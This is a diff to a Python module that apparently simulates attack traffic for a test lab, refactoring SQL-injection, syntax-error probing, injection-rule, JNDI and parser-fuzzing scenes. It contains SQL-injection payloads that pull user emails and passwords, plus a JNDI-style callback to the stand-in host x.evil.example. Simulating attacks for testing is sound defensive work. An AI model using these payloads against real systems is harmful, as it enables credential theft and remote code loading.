@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+from functools import partial
 from urllib.parse import quote, quote_plus
 
-from examples.lab.attacks.scene import Scene, attack
+from examples.lab.attacks.scene import Scene, attack, restated
 from examples.lab.flows import Change
 from examples.lab.people.visit import Steps
-from examples.lab.spans import exception
+from examples.lab.spans import Piece, exception
 
 SQL = (
     "' OR '1'='1' --", "') UNION SELECT id, email, password FROM users --", "x' AND 1=(SELECT COUNT(*) FROM users) --",
@@ -49,10 +51,8 @@ def sqli(scene: Scene) -> Steps:
 @attack("sql.shape")
 def shape(scene: Scene) -> Steps:
     """The same where the statement is cleaned of values: only its form is another."""
-    form = scene.place.operation("object").service.tools.sql(
-        "SELECT id, email, password FROM users WHERE id = ? UNION SELECT ?, ?, ? FROM users", "users"
-    )
-    change = Change(instead={"db": form, "ledger": form})
+    # Cleaned as the others are; the form is what is left of it.
+    change = scene.query("object", restated(lambda said: f"{said} UNION SELECT ?, ?, ? FROM users"))
     for at in scene.times(10):
         visible = f"{scene.object()}%20UNION%20SELECT%201,2,3" if scene.strength != "weak" else scene.object()
         yield scene.wait(), scene.call(scene.who(at, scene.account), "object", visible, change=change)
@@ -61,16 +61,18 @@ def shape(scene: Scene) -> Steps:
 @attack("sql.errors")
 def errors(scene: Scene) -> Steps:
     """Quotes and brackets until the database complains of syntax."""
-    tools = scene.place.operation("search").service.tools
     for at in scene.times(12):
         payload = scene.chance.choice(BROKEN)
         message = f'syntax error at or near "{payload[:6]}"'
-        failed = tools.sql(f"SELECT id, name FROM products WHERE name ILIKE '%{payload}%' LIMIT 20", "products", error=("42601", message))
+        who = scene.who(at, scene.guest("search"))
         query = "" if scene.strength == "weak" else f"q={quote_plus(payload)}"
-        yield (
-            scene.wait(),
-            scene.call(scene.who(at, scene.stranger), "search", query=query, status=500, change=Change(instead={"db": failed})),
-        )
+        change = scene.query("search", partial(_failed, message=message))
+        yield scene.wait(), scene.call(who, "search", query=query, fill=payload, status=500, change=change)
+
+
+def _failed(piece: Piece, message: str) -> Piece:
+    told = {**piece.told, "db.response.status_code": "42601"}
+    return replace(piece, told=told, error=message, events=(exception("SyntaxError", message),))
 
 
 @attack("inj.rules")
@@ -78,7 +80,7 @@ def rules(scene: Scene) -> Steps:
     """What rule sets know: markup, traversal, commands, templates; nothing comes of it. Weak ones stand in the body and are not seen."""
     for at in scene.times(20):
         payload = scene.chance.choice(RULES)
-        who, seen = scene.who(at, scene.stranger), scene.strength != "weak"
+        who, seen = scene.who(at, scene.guest("search")), scene.strength != "weak"
         if not seen:
             yield scene.wait(), scene.call(who, "create", status=scene.mostly(400, 201, 0.5), visible=False)
         elif scene.chance.random() < 0.3:
@@ -93,7 +95,7 @@ def jndi(scene: Scene) -> Steps:
     tools = scene.place.operation("search").service.tools
     called = Change(extra=(tools.get("http://x.evil.example:1389/a"),)) if scene.strength == "strong" else None
     for at in scene.times(6):
-        who, payload = scene.stranger(), scene.chance.choice(JNDI)
+        who, payload = scene.guest("search")(), scene.chance.choice(JNDI)
         if at % 2:
             who.agent = payload
         yield scene.wait(), scene.call(who, "search", query=f"q={quote_plus('phone' if at % 2 else payload)}", fill="", change=called)
@@ -104,6 +106,6 @@ def novel(scene: Scene) -> Steps:
     """Bodies that no parser was made for, until one fails in a new way."""
     for at in scene.times(8):
         kind = scene.chance.choice(EXCEPTIONS)
-        failed = scene.place.operation("write").service.tools.code("parse body")
-        piece = type(failed)(failed.scope, failed.name, failed.kind, {}, events=(exception(kind, "unexpected input"),), error=kind)
+        parsing = scene.place.operation("write").service.tools.code("parse body")
+        piece = replace(parsing, events=(exception(kind, "unexpected input"),), error=kind)
         yield scene.wait(), scene.call(scene.who(at, scene.account), "write", status=500, change=Change(extra=(piece,)))
